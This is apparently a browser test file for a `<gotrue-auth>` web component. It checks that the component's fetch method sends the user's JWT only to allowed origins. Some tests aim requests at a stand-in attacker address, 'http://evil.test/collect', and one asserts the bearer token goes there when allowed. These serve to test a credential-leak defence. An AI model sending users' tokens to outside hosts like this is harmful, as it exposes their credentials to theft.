// el.fetch() gives the user's JWT to the page's origin and the API's only, unless the page names
// other origins in `fetch-origins`.
import { expect } from '@open-wc/testing';
import { API, cleanUp, confirmedUser, logIn, mount, recordRequests } from './harness.js';

describe('<gotrue-auth> fetch-origins', () => {
  let recording: ReturnType<typeof recordRequests> | null = null;
  let original: typeof fetch;

  beforeEach(() => {
    original = window.fetch;
  });

  afterEach(() => {
    recording?.stop();
    recording = null;
    window.fetch = original;
    cleanUp();
  });

  /** Answers requests to other origins here, so none leaves the machine; the rest go to the test server. */
  function answerForeignRequests(): Request[] {
    const foreign: Request[] = [];
    const next = window.fetch;
    window.fetch = (input, init) => {
      const request = new Request(input, init);
      if (new URL(request.url).origin === location.origin) return next.call(window, input, init);
      foreign.push(request);
      return Promise.resolve(new Response('{}'));
    };
    return foreign;
  }

  async function loggedIn(attributes: Record<string, string> = {}) {
    const { email, password } = await confirmedUser(API.autoconfirm);
    const el = await mount({ 'api-url': API.autoconfirm, ...attributes });
    await logIn(el, email, password);
    return el;
  }

  it('refuses to send the JWT to another origin, and makes no request at all', async () => {
    const el = await loggedIn();
    const foreign = answerForeignRequests();
    recording = recordRequests();

    const error = await el.fetch('http://evil.test/collect').then(
      () => null,
      (reason: Error) => reason,
    );

    expect(error?.name).to.equal('SecurityError');
    expect(error?.message).to.contain('fetch-origins');
    expect(foreign).to.deep.equal([]);
    expect(recording.requests).to.deep.equal([]);
  });

  it('sends it to the origins named in fetch-origins', async () => {
    const el = await loggedIn({ 'fetch-origins': 'https://functions.example.net http://evil.test' });
    const foreign = answerForeignRequests();

    await el.fetch('http://evil.test/collect');
    el.removeAttribute('fetch-origins');
    const refused = await el.fetch('http://evil.test/collect').then(
      () => null,
      (reason: Error) => reason,
    );

    expect(foreign.map((request) => request.headers.get('Authorization'))).to.deep.equal([
      `Bearer ${el.user!.token.access_token}`,
    ]);
    expect(refused?.name).to.equal('SecurityError');
  });
});
